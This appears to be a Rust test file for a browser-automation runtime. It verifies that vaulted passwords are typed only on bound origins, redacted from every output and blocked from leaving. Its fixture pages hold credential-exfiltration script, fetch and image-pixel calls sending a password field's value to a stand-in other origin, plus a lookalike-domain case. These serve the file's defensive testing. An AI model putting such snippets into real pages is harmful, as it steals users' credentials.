//! Secrets with a real Chromium: typed where they are bound to and nowhere else, and found in nothing that is told, however a page
//! repeats them.

mod pictures;

use std::{
    io::Write,
    sync::{Arc, Mutex},
    time::Duration,
};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use legwork_runtime::{
    Acted, BrowserSource, Caller, CancellationToken, LaunchOptions, Mode, OpenRequest, PrepareRule, Reach,
    Seen, SessionSettings, Sessions, Vault, WireSettings, boundary,
};
use legwork_testkit::{
    Site, SiteBuilder,
    axum::{response::Html, routing::post},
    wait_until,
};
use legwork_types::{
    Code, Details, PageUrl, Problem,
    contract::{ActRequest, ActionId, Include, ObserveOptions, SessionId},
};
use serde_json::{Value, json};

/// Far beyond what any of these tests needs.
const LONG: Duration = Duration::from_secs(120);

/// What is looked for in everything.
const CANARY: &str = "Xy7-canary-Plugh.42";

const CHATTY: &str = include_str!("../pages/chatty_login.html");

/// The canary in its disguises, in lower case where case does not matter.
fn disguises() -> Vec<String> {
    let url: String = CANARY.bytes().map(|byte| format!("%{byte:02x}")).collect();
    let hex: String = CANARY.bytes().map(|byte| format!("{byte:02x}")).collect();
    let spaced: String = CANARY.chars().flat_map(|c| [c, ' ']).collect();
    let html: String = CANARY.bytes().map(|byte| format!("&#{byte};")).collect();
    let backwards: String = CANARY.chars().rev().collect();
    let middle = &STANDARD.encode(CANARY)[4..20];
    let plain = [CANARY, "canary", &url, &hex, spaced.trim(), &html, &backwards, "canary-plugh"];
    plain.iter().map(|form| form.to_lowercase()).chain([middle.to_lowercase()]).collect()
}

#[track_caller]
fn assert_clean(what: &str, text: &str) {
    let small = text.to_lowercase();
    for form in disguises() {
        assert!(!small.contains(&form), "{what} holds {form:?}: {text}");
    }
}

/// Where a site's sessions may go, with names for it.
fn reach(site: &Site, names: &[&str]) -> Reach {
    let resolve = names.iter().map(|name| format!("{name}=127.0.0.1:{}", site.port()).parse().unwrap());
    Reach { private: site.grants(), resolve: resolve.collect(), ..Reach::default() }
}

struct Bench {
    sessions: Sessions,
    caller: Caller,
    never: CancellationToken,
}

impl Bench {
    /// Sessions with one secret, called `pw`, that comes from this variable of the kind and is bound to these origins.
    async fn with(site: &Site, kind: &str, origins: &[&str], reach: Reach) -> Self {
        let spec = format!("pw={kind}cmd:echo {CANARY}@{}", origins.join(","));
        let vault = Vault::load(&[spec.parse().unwrap()], &reach).await.unwrap();
        Self::over(site, vault, reach)
    }

    fn over(site: &Site, vault: Vault, reach: Reach) -> Self {
        let prepare = vec![PrepareRule { origin: site.other(), path: "/collect".into() }];
        let wire = WireSettings { reach, prepare, mode: Mode::DryRun, ..WireSettings::default() };
        let settings = SessionSettings {
            navigation: LONG,
            wire: Arc::new(wire),
            vault: Arc::new(vault),
            ..SessionSettings::default()
        };
        let sessions = Sessions::new(BrowserSource::Launch(LaunchOptions::default()), settings, |_| {});
        Self { sessions, caller: Caller::new("me"), never: CancellationToken::new() }
    }

    async fn open(&self, url: &str) -> Seen {
        let request = OpenRequest { url: Some(PageUrl::parse(url).unwrap()), ..OpenRequest::default() };
        let opened = self.sessions.open(&self.caller, request, &self.never).await.unwrap();
        assert_clean("an opened session", &format!("{:?}", opened.landing));
        opened.seen
    }

    async fn look(&self, session: &SessionId) -> Seen {
        let options = ObserveOptions::default();
        self.sessions.observe(&self.caller, session, &options, &self.never).await.unwrap()
    }

    async fn act(&self, seen: &Seen, mut call: Value) -> Acted {
        call["sessionId"] = seen.look.session().0.clone().into();
        call["observationId"] = seen.look.id().0.clone().into();
        let request: ActRequest = serde_json::from_value(call).unwrap();
        self.sessions.act(&self.caller, request, &self.never).await
    }

    async fn fill(&self, seen: &Seen, name: &str) -> Acted {
        self.act(seen, on(number(seen, name), json!({"type": "fill", "value": {"secret": "pw"}}))).await
    }

    /// Everything that a session tells of its page, with the name of each part.
    async fn artefacts(&self, session: &SessionId) -> Vec<(&'static str, String)> {
        let options =
            ObserveOptions { include: vec![Include::Text, Include::Boxes], ..ObserveOptions::default() };
        let seen = self.sessions.observe(&self.caller, session, &options, &self.never).await.unwrap();
        let read = self.sessions.read(&self.caller, session, None, 50_000, &self.never).await.unwrap();
        let tabs = self.sessions.tabs(&self.caller, session, &self.never).await.unwrap();
        vec![
            ("the text of a look", seen.look.read(&options, None, &boundary()).unwrap().text),
            ("a look for programs", serde_json::to_string(&seen.observation(&options).unwrap()).unwrap()),
            ("a look as it is printed", format!("{:?}", seen.look)),
            ("what is read", read),
            ("tabs", format!("{tabs:?}")),
            ("the list", format!("{:?}", self.sessions.list(&self.caller).await)),
        ]
    }

    async fn picture(&self, session: &SessionId) -> Result<Vec<u8>, Problem> {
        self.sessions.screenshot(&self.caller, session, None, &self.never).await
    }
}

fn number(seen: &Seen, name: &str) -> ActionId {
    let items = &seen.look.scene().items;
    let found = items.iter().find(|item| item.affordance.name.untrusted() == name);
    let names: Vec<&str> = items.iter().map(|item| item.affordance.name.untrusted()).collect();
    found.unwrap_or_else(|| panic!("nothing is called {name:?} among {names:?}")).affordance.action_id
}

fn on(number: ActionId, action: Value) -> Value {
    json!({"target": {"kind": "element", "actionId": number}, "action": action})
}

/// How many pixels are red: what a page repeats is written in red.
fn reds(jpeg: &[u8]) -> usize {
    let cursor = zune_jpeg::zune_core::bytestream::ZCursor::new(jpeg);
    let pixels = zune_jpeg::JpegDecoder::new(cursor).decode().unwrap();
    pixels.chunks(3).filter(|pixel| matches!(pixel, [160..=255, 0..=110, 0..=110])).count()
}

/// The page after the login, which repeats what was sent in every way.
fn welcome() -> SiteBuilder {
    Site::builder().page("/login", CHATTY).route(
        "/session",
        post(|body: String| async move {
            let sent = body.split('&').find_map(|pair| pair.strip_prefix("password=")).unwrap_or_default();
            let word = sent.replace("%2B", "+");
            let hex: String = word.bytes().map(|byte| format!("{byte:02x}")).collect();
            let html: String = word.bytes().map(|byte| format!("&#{byte};")).collect();
            let backwards: String = word.chars().rev().collect();
            let letters: String = word.chars().map(|c| format!("<i>{c}</i> ")).collect();
            Html(format!(
                "<!doctype html><title>Hello {word}</title><style>b {{ color: red }}</style>
                <h1>Welcome <b>{word}</b></h1><p><b>{letters}</b><p><b>{html}</b><p><b>{hex}</b><p><b>{backwards}</b><p><b>{}</b><p>{}
                <p><a href='/y?{word}'>home</a> <button onclick='confirm(\"{word}\")'>Tell</button>
                <button aria-label='{word}'>x</button> <input value='{word}' aria-label='Code'>",
                word.to_uppercase(),
                STANDARD.encode(format!("a{word}")),
            ))
        }),
    )
}

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn a_login_goes_through_and_nothing_that_is_told_holds_the_password() {
    let log = Log::default();
    let writer = log.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .finish();
    let _logging = tracing::subscriber::set_default(subscriber);
    let site = welcome().start().await;
    let bench = Bench::with(&site, "", &[&site.here()], reach(&site, &[])).await;
    let seen = bench.open(&site.url("/login")).await;
    let session = seen.look.session().clone();

    let typed = bench.fill(&seen, "Password").await;
    assert!(typed.error.is_none(), "{:?}", typed.error);
    assert!(typed.receipt.effects.value_changed);
    assert_clean("the answer to typing", &format!("{:?}", typed));
    assert_clean("the same for programs", &serde_json::to_string(&typed.response()).unwrap());
    for (what, text) in bench.artefacts(&session).await {
        assert!(
            what == "tabs" || what == "the list" || text.contains("•••") || text.contains("Log in"),
            "{what}: {text}"
        );
        assert_clean(what, &text);
    }
    assert_eq!(reds(&bench.picture(&session).await.unwrap()), 0, "what the page repeats is covered");

    let seen = bench.look(&session).await;
    let sent = bench.act(&seen, on(number(&seen, "Log in"), json!({"type": "click"}))).await;
    assert!(sent.error.is_none(), "{:?}", sent.error);
    let hits = site.hits_of("/session");
    assert_eq!(hits.len(), 1);
    let body = String::from_utf8(hits[0].body.to_vec()).unwrap();
    assert!(body.contains(&format!("password={CANARY}")), "the server got it: {body}");
    assert_clean("the answer to sending", &serde_json::to_string(&sent.response()).unwrap());
    for (what, text) in bench.artefacts(&session).await {
        assert_clean(what, &text);
    }
    match bench.picture(&session).await {
        Ok(jpeg) => assert_eq!(reds(&jpeg), 0, "what the page repeats is covered"),
        Err(problem) => assert_eq!(problem.code, Code::SecretRefused, "{problem}"),
    }

    let seen = bench.look(&session).await;
    let told = bench.act(&seen, on(number(&seen, "Tell"), json!({"type": "click"}))).await;
    assert_clean("the answer with a dialog", &serde_json::to_string(&told.response()).unwrap());
    let waiting = told.next.unwrap();
    assert!(!waiting.look.scene().page.dialogs.is_empty());
    assert_clean("a look with a dialog", &format!("{:?}", waiting.look));
    let refused = bench.sessions.read(&bench.caller, &session, None, 100, &bench.never).await.unwrap_err();
    assert_clean("a refusal", &format!("{refused} {refused:?}"));
    let answer = json!({"target": {"kind": "page"}, "action": {"type": "handleDialog", "accept": false}});
    let answered = bench.act(&waiting, answer).await;
    assert!(answered.error.is_none(), "{:?}", answered.error);
    assert_clean("the answer to a dialog", &serde_json::to_string(&answered.response()).unwrap());
    bench.sessions.shut().await;
    let log = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
    assert_clean("the log", &log);
}

#[tokio::test]
async fn the_same_page_without_secrets_shows_what_was_typed() {
    // The twin of the test above: what is not found there could have been found.
    let site = welcome().start().await;
    let bench = Bench::over(&site, Vault::default(), reach(&site, &[]));
    let seen = bench.open(&site.url("/login")).await;
    let session = seen.look.session().clone();
    let fill = on(number(&seen, "Password"), json!({"type": "fill", "value": CANARY}));
    assert!(bench.act(&seen, fill).await.error.is_none());
    assert!(reds(&bench.picture(&session).await.unwrap()) > 100);
    bench.sessions.shut().await;
}

/// A page with a login and whatever else.
fn login(action: &str, more: &str) -> String {
    format!(
        "<!doctype html><title>Log in</title><form method=post action='{action}'>
        <label>Password <input name=password type=password></label> {more} <button>Log in</button></form>"
    )
}

#[track_caller]
fn rule_of(acted: &Acted) -> &str {
    let problem = acted.error.as_ref().expect("it is refused");
    assert_eq!(problem.code, Code::SecretRefused, "{problem}");
    assert!(!acted.receipt.dispatched, "nothing was sent to the page");
    match problem.details.as_deref() {
        Some(Details::Rule { rule }) => rule,
        other => panic!("no rule is named: {other:?}"),
    }
}

#[tokio::test]
async fn a_secret_is_typed_nowhere_else() {
    let plain = login("/session", "");
    let fields =
        "<form role=search><input type=search aria-label=Search></form><input name=q aria-label=Query>
        <textarea aria-label=Notes></textarea><input aria-label=Colour>
        <label>Email <input type=email name=email></label><div contenteditable aria-label=Editor>x</div>";
    let site = Site::builder()
        .page("/login", plain.clone())
        .page("/framed", "<!doctype html><title>Framed</title><iframe src='{{OTHER}}/login' width=600 height=300></iframe>")
        .page("/own-frame", "<!doctype html><title>Framed</title><iframe src='/login' width=600 height=300></iframe>")
        .page("/posts", login("{{OTHER}}/session", ""))
        .page("/button-posts", login("/session", "<button formaction='{{OTHER}}/session'>Go</button>"))
        .page("/fields", fields)
        .start()
        .await;
    let bench = Bench::with(&site, "", &[&site.here()], reach(&site, &[])).await;
    for (url, field, rule) in [
        (site.other_url("/login"), "Password", "page-origin"),
        (site.url("/framed"), "Password", "frame-origin"),
        (site.url("/posts"), "Password", "form-target"),
        (site.url("/button-posts"), "Password", "form-target"),
        (site.url("/fields"), "Search", "field-kind"),
        (site.url("/fields"), "Query", "field-kind"),
        (site.url("/fields"), "Notes", "field-kind"),
        (site.url("/fields"), "Colour", "field-kind"),
        (site.url("/fields"), "Email", "field-kind"),
        (site.url("/fields"), "Editor", "field-kind"),
    ] {
        let seen = bench.open(&url).await;
        let acted = bench.fill(&seen, field).await;
        assert_eq!(rule_of(&acted), rule, "{field} of {url}");
        bench.sessions.close(&bench.caller, seen.look.session()).await.unwrap();
    }
    let seen = bench.open(&site.url("/own-frame")).await;
    let typed = bench.fill(&seen, "Password").await;
    assert!(typed.error.is_none(), "{:?}", typed.error);
    let other = json!({"type": "fill", "value": {"secret": "other"}});
    let seen = typed.next.unwrap();
    let acted = bench.act(&seen, on(number(&seen, "Password"), other)).await;
    assert_eq!(rule_of(&acted), "unknown-secret");
    // A name in an address is no secret: it stays what it is.
    let call = json!({"target": {"kind": "page"}, "action": {"type": "navigate", "url": site.url("/fields?k=%7Bsecret:pw%7D")}});
    let went = bench.act(&acted.next.unwrap(), call).await;
    assert!(went.error.is_none(), "{:?}", went.error);
    assert!(site.hits_of("/fields").iter().all(|hit| !hit.path.contains("canary")));
    bench.sessions.shut().await;
}

#[tokio::test]
async fn a_name_that_only_begins_like_the_right_one_gets_nothing() {
    let site = Site::builder().page("/login", login("/session", "")).start().await;
    let names = ["bank.test", "bank.test.evil.test"];
    let own = format!("http://bank.test:{}", site.port());
    let bench = Bench::with(&site, "", &[&own], reach(&site, &names)).await;
    let seen = bench.open(&format!("http://bank.test.evil.test:{}/login", site.port())).await;
    assert_eq!(rule_of(&bench.fill(&seen, "Password").await), "page-origin");
    let seen = bench.open(&format!("{own}/login")).await;
    let typed = bench.fill(&seen, "Password").await;
    assert!(typed.error.is_none(), "{:?}", typed.error);
    bench.sessions.shut().await;
    let spec = format!("pw=cmd:echo {CANARY}@{}", site.here()).parse().unwrap();
    let problem = Vault::load(&[spec], &Reach::default()).await.unwrap_err();
    assert!(problem.to_string().contains("without TLS"), "{problem}");
}

#[tokio::test]
async fn a_secret_that_was_typed_is_stopped_on_its_way_elsewhere() {
    let leak = "<!doctype html><title>Log in</title><label>Password <input id=p name=password type=password></label>
        <button onclick=\"fetch('{{OTHER}}/collect', {method: 'POST', mode: 'no-cors', body: btoa('x' + p.value)})\">Collect</button>
        <button onclick=\"new Image().src = '{{OTHER}}/pixel?' + p.value.toUpperCase()\">Pixel</button>
        <button onclick=\"fetch('{{OTHER}}/harmless', {mode: 'no-cors'})\">Harmless</button>";
    let site = Site::builder().page("/leak", leak).start().await;
    let bench = Bench::with(&site, "", &[&site.here()], reach(&site, &[])).await;
    let mut seen = bench.open(&site.url("/leak")).await;
    seen = bench.fill(&seen, "Password").await.next.unwrap();
    for (button, path) in [("Collect", "/collect"), ("Pixel", "/pixel")] {
        let acted = bench.act(&seen, on(number(&seen, button), json!({"type": "click"}))).await;
        let problem = acted.error.as_ref().expect("it is told");
        assert_eq!(problem.code, Code::SecretRefused, "{button}: {problem}");
        assert_clean("what is told of it", &serde_json::to_string(&acted.response()).unwrap());
        assert!(site.hits_of(path).is_empty(), "{button}");
        seen = acted.next.unwrap();
    }
    let acted = bench.act(&seen, on(number(&seen, "Harmless"), json!({"type": "click"}))).await;
    assert!(acted.error.is_none(), "{:?}", acted.error);
    assert_eq!(site.hits_of("/harmless").len(), 1);
    bench.sessions.shut().await;
}

#[tokio::test]
async fn a_name_may_be_shown_and_a_code_is_made_when_it_is_typed() {
    let page = "<!doctype html><title>Log in</title><form method=post action=/session>
        <label>Email <input type=email name=email></label>
        <label>One-time code <input name=otp autocomplete=one-time-code></label></form>";
    let site = Site::builder().page("/login", page).start().await;
    let reach = reach(&site, &[]);
    let specs = [
        format!("me=visible:cmd:echo ada.lovelace@example.org@{}", site.here()),
        format!("otp=totp:cmd:echo GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ@{}", site.here()),
    ];
    let specs: Vec<_> = specs.iter().map(|spec| spec.parse().unwrap()).collect();
    let bench = Bench::over(&site, Vault::load(&specs, &reach).await.unwrap(), reach);
    let seen = bench.open(&site.url("/login")).await;
    let fields = json!([
        {"actionId": number(&seen, "Email"), "value": {"secret": "me"}},
        {"actionId": number(&seen, "One-time code"), "value": {"secret": "otp"}},
    ]);
    let wrong = on(number(&seen, "Email"), json!({"type": "fill", "value": {"secret": "otp"}}));
    assert_eq!(rule_of(&bench.act(&seen, wrong).await), "field-kind");
    let call = json!({"target": {"kind": "page"}, "action": {"type": "fillForm", "fields": fields}});
    let acted = bench.act(&seen, call).await;
    assert!(acted.error.is_none(), "{:?}", acted.error);
    assert_eq!(acted.receipt.effects.fields_changed.len(), 2);
    let told = serde_json::to_string(&acted.response()).unwrap();
    assert!(!told.contains("ada.lovelace"), "{told}");
    bench.sessions.shut().await;
}

#[tokio::test]
async fn what_a_page_sent_by_itself_is_told_without_the_secret_in_its_path() {
    let page = format!(
        "<!doctype html><title>Shop</title><p>Shop</p><script>
        fetch('/collect/{CANARY}/add', {{ method: 'POST', body: new URLSearchParams({{ product: '7' }}) }})</script>"
    );
    let collect = post(async || "added");
    let site = Site::builder().page("/", page).route("/collect/{*rest}", collect).start().await;
    let bench = Bench::with(&site, "", &[&site.other()], reach(&site, &[])).await;
    let seen = bench.open(&site.other_url("/")).await;
    let doings = bench.sessions.doings(&bench.caller, seen.look.session()).unwrap();
    let has_left = || site.hits().iter().any(|hit| hit.path.starts_with("/collect/"));
    wait_until(LONG, "the page sends it", has_left);
    // Also after the session is gone.
    bench.sessions.shut().await;
    let told = format!("{:?}", doings.take());
    assert!(told.contains("/collect/") && told.contains("/add"), "{told}");
    assert_clean("what left", &told);
}
